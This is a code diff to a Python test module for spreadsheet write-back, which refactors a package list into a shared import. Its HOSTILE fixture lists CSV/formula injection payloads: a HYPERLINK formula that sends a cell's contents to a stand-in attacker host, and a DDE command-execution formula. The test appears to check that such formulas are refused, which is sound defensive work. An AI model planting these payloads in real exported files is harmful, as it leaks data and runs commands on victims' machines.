@@ -23,19 +23,9 @@ from fileio.writeback.report import SkippedChange, written_back
 from fileio.writeback_policy import FORMULA_REFUSED
 from tests.fileio.test_address_results import address_input, write_result
 from tests.outputs import EXCEL, RFC4180, output_rows
+from tests.packages import PACKAGES
 
 ROOT = Path(__file__).resolve().parents[2]
-PACKAGES = (
-    "core",
-    "connectors",
-    "fileio",
-    "tasks",
-    "flows",
-    "history",
-    "deployments",
-    "postflows",
-    "sandbox",
-)
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?leak="&A1,"Lindenstrasse")',
     "=cmd|'/C calc'!A0",
